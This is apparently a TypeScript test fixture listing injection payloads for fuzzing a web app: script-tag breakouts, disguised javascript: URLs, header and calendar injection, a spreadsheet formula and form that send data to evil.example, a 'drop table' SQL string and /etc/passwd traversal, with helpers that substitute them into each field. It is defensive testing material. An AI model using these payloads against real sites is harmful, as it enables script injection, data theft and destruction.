/**
 * What an attacker, or somebody with an odd keyboard, may type, paste or post. `mark` is in every text that
 * contains a script, so that a test can say whether it would run.
 */
export const mark = 'vitrineBreach';

const run = `${mark}()`;

/** Markup, style and data that try to break out of their place. */
export const breakouts: Record<string, string> = {
  'a script element': `<script>${run}</script>`,
  'a script in odd letters': `<ScRiPt\t>${run}</sCrIpT >`,
  'a picture that fails': `<img src=x onerror=${run}>`,
  'an event handler out of an attribute': `" onmouseover="${run}" x="`,
  'an event handler in single quotes': `' autofocus onfocus='${run}' x='`,
  'an attribute without quotes': `x onload=${run} `,
  'a drawing with a script': `<svg/onload=${run}><svg><script>${run}</script></svg>`,
  'the end of a style': `</style><script>${run}</script>`,
  'the end of a script': `</script><script>${run}</script>`,
  'a comment in a script': `<!--<script>${run}`,
  'the end of a title': `</title><script>${run}</script>`,
  'the end of a text area': `</textarea><script>${run}</script>`,
  'a frame': `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  'a base address': '<base href="https://evil.example/">',
  'a form elsewhere': '<form action="https://evil.example/"><input name="password">',
  'a refresh': `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  'style out of a rule': '};body{display:none}@import "https://evil.example/x.css";x{',
  'style in an attribute': '" style="background:url(https://evil.example/x)" x="',
  'an expression': `x:expression(${run})`,
  'an address in style': `url("javascript:${run}")`,
  'the end of JSON': `"}</script><script>${run}</script>`,
  'line ends of JSON': `\u2028\u2029"};${run};//`,
  'a template': `{{constructor.constructor('${run}')()}}\${${run}}<%= ${run} %>`,
  'the end of a data section': `]]><script>${run}</script>`,
  'escaped markup': `&lt;script&gt;${run}&lt;/script&gt;&#60;script&#62;`,
  'a header': `x\r\nBcc: victim@example.org\r\nSet-Cookie: a=b\r\n\r\n<script>${run}</script>`,
  'a line of a calendar': 'x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nATTACH:https://evil.example/',
  'a formula': `=HYPERLINK("https://evil.example/?"&A1,"${mark}")`,
  'words of a query': `'; drop table creators; --`,
  'a way up': '../../../etc/passwd',
};

/** Addresses that run or contain a script instead of leading somewhere, in disguise. */
export const scripts: Record<string, string> = {
  plain: `javascript:${run}`,
  'in odd letters': `JaVaScRiPt:${run}`,
  'with a tab in it': `java\tscript:${run}`,
  'with a line end in it': `java\nscript:${run}`,
  'with a carriage return in it': `java\r\nscript:${run}`,
  'behind a control character': `\u0001javascript:${run}`,
  'behind NUL': `\u0000javascript:${run}`,
  'with NUL in it': `java\u0000script:${run}`,
  'behind spaces': ` \u00a0\u2003javascript:${run}`,
  'behind a mark of order': `\ufeffjavascript:${run}`,
  'behind a mark of direction': `\u202ejavascript:${run}`,
  'as an entity': `javascript&#58;${run}`,
  'as a named entity': `java&Tab;script&colon;${run}`,
  escaped: `javascript%3A${run}`,
  'like an address': `javascript://example.com/%0a${run}`,
  'like a mail': `javascript://me@example.com/%0a${run}`,
  'inside another': `view-source:javascript:${run}`,
  'of another language': `vbscript:msgbox("${mark}")`,
  'data as a page': `data:text/html,<script>${run}</script>`,
  'data in odd letters': `DATA:text/html;base64,PHNjcmlwdD4=`,
  'a file': 'file:///etc/passwd',
  'a blob': 'blob:https://example.com/1',
  'with a password': 'https://example.com@evil.example/',
};

/** Texts that are long, look empty, or break counting and storing letters. */
export const oddTexts: Record<string, string> = {
  NUL: 'before\u0000after',
  'half of a pair': 'a\ud800b\udfff',
  'a letter outside Unicode': 'a\uffff\ufdd0b',
  'a turned direction': '\u202eevil\u202c \u2066gnp.exe\u2069',
  'marks upon marks': `Z${'\u0301\u0316\u0489'.repeat(200)}algo`,
  'ten thousand faces': '😀'.repeat(10_000),
  'a family many times': '👩‍👩‍👧‍👦'.repeat(50),
  'one long word': 'W'.repeat(4000),
  'only invisible': '\u200b\u200d\u2060\ufeff',
  'only spaces': ' \u00a0\u3000\t\n ',
  'all controls': Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join('x'),
  __proto__word: '__proto__',
  constructor: 'constructor',
  toString: 'toString',
};

export const attacks: Record<string, string> = { ...breakouts, ...scripts, ...oddTexts };

type Leaf = { path: readonly (string | number)[]; value: string };

/** Every text inside a value, and every empty place that may have one, with its path. */
export function leavesOf(value: unknown, path: readonly (string | number)[] = []): Leaf[] {
  if (typeof value === 'string' || value === null) return [{ path, value: value ?? '' }];
  if (Array.isArray(value)) return value.flatMap((member, at) => leavesOf(member, [...path, at]));
  if (typeof value !== 'object') return [];
  return Object.entries(value).flatMap(([key, member]) => leavesOf(member, [...path, key]));
}

/** The same value with another text at that place. */
export function withLeaf(value: unknown, [step, ...rest]: readonly (string | number)[], text: string): unknown {
  if (step === undefined) return text;
  if (Array.isArray(value)) return value.map((member, at) => (at === step ? withLeaf(member, rest, text) : member));
  const fields = value as Record<string, unknown>;
  return { ...fields, [step]: withLeaf(fields[step], rest, text) };
}
